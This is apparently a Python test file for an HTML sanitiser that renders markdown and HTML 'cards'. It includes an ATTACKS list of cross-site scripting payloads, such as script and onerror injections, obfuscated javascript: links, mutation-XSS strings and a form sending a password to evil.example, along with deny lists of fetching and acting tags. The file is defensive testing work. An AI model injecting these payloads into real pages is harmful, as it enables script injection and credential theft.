"""Whatever a card is made of, what a page is given acts on nothing, and fetches nothing."""

from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from vivavoce.tools.cards import as_html
from vivavoce.tools.types import Card

pytestmark = pytest.mark.anyio

PLENTY = 20_000
ALLOWED = {
    "dir",
    "lang",
    "title",
    "href",
    "start",
    "align",
    "colspan",
    "rowspan",
    "scope",
    "datetime",
    "rel",
    "target",
}
FETCHING = {
    "img",
    "script",
    "style",
    "link",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "source",
    "svg",
    "math",
}
ACTING = {"form", "input", "button", "base", "meta", "template", "textarea", "select", "dialog", "details"}


class Reader(HTMLParser):
    """Notes what a browser would make of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def is_harmless(html: str) -> bool:
    for tag, attributes in Reader(html).tags:
        href = attributes.get("href") or "https:"
        if tag in FETCHING | ACTING or not attributes.keys() <= ALLOWED:
            return False
        if not href.lower().startswith(("http:", "https:", "mailto:", "tel:")):
            return False
        if tag == "a" and attributes["rel"] != "noopener noreferrer":
            return False
    return True


async def test_markdown_becomes_html() -> None:
    table = "## Order 1042\n\n| item | price |\n| --- | --: |\n| lamp | **12 €** |\n\n- sent\n- ~~lost~~"
    html = await as_html(Card(markdown=table), PLENTY)
    assert html
    assert "<h2>Order 1042</h2>" in html
    assert '<th align="right">price</th>' in html
    assert '<td align="right"><strong>12 €</strong></td>' in html
    assert "<li>sent</li>\n<li><s>lost</s></li>" in html


async def test_links_open_elsewhere_and_tell_nothing() -> None:
    html = await as_html(Card(markdown="[shop](https://shop.example.org)"), PLENTY)
    link = '<a href="https://shop.example.org" target="_blank" rel="noopener noreferrer">shop</a>'
    assert html == f"<p>{link}</p>\n"


async def test_html_keeps_its_words() -> None:
    html = await as_html(Card(html='<p class="x" id="y">Order <b onclick="z()">1042</b><br>sent</p>'), PLENTY)
    assert html == "<p>Order <b>1042</b><br>sent</p>"


async def test_html_in_markdown_is_shown_as_it_was_written() -> None:
    assert await as_html(Card(markdown="<b>1042</b>"), PLENTY) == "<p>&lt;b&gt;1042&lt;/b&gt;</p>\n"


async def test_both_are_shown_one_below_the_other() -> None:
    assert await as_html(Card(markdown="first", html="<p>second</p>"), PLENTY) == "<p>first</p>\n<p>second</p>"


@pytest.mark.parametrize(
    "card",
    [Card("x" * 11), Card(markdown="x" * 11), Card(html="x" * 11), Card(html="&" * 4), Card(markdown="- a")],
)
async def test_what_is_too_long_is_not_shown(card: Card) -> None:
    assert await as_html(card, 10) is None


@pytest.mark.real_time
async def test_a_long_card_is_made_ready_in_a_thread() -> None:
    html = await as_html(Card(markdown="word " * 3000), PLENTY)
    assert html
    assert html.count("word") == 3000


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<table background='http://evil.example'><td style='background:url(http://evil.example)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example'</style><link rel=stylesheet href=http://evil.example>",
    "<form action='http://evil.example'><input name=password><button>Go</button></form>",
    "<base href='http://evil.example'><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<p id=hang-up name=token class=button>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<template><img src=x></template><textarea></textarea><img src=y>",
    "![x](http://evil.example/x.png)",
    "[x](javascript:alert(1)) [y](<data:text/html,x>) <javascript:alert(1)> [z]: //evil",
    "[x](https://a.example 'onmouseover=\"alert(1)\"')",
    '[x](https://a.example/"onmouseover="alert(1))',
]
PIECES = (
    st.sampled_from(ATTACKS)
    | st.text(max_size=10)
    | st.sampled_from([*"<>\"'`[]()|\n&", "<!--", "-->", "<![CDATA["])
)


@pytest.mark.parametrize("attack", ATTACKS)
async def test_what_means_no_good_does_none(attack: str) -> None:
    html = await as_html(Card(markdown=attack, html=attack), PLENTY)
    assert html is not None
    assert is_harmless(html)


@given(st.lists(PIECES, max_size=8).map("".join), st.lists(PIECES, max_size=8).map("".join))
@example("\x00<a href=javascript:x>", "<\x00script>")
async def test_nothing_that_acts_or_is_fetched_ever_comes_out(markdown: str, html: str) -> None:
    shown = await as_html(Card(markdown=markdown, html=html), PLENTY)
    assert shown is not None
    assert is_harmless(shown)
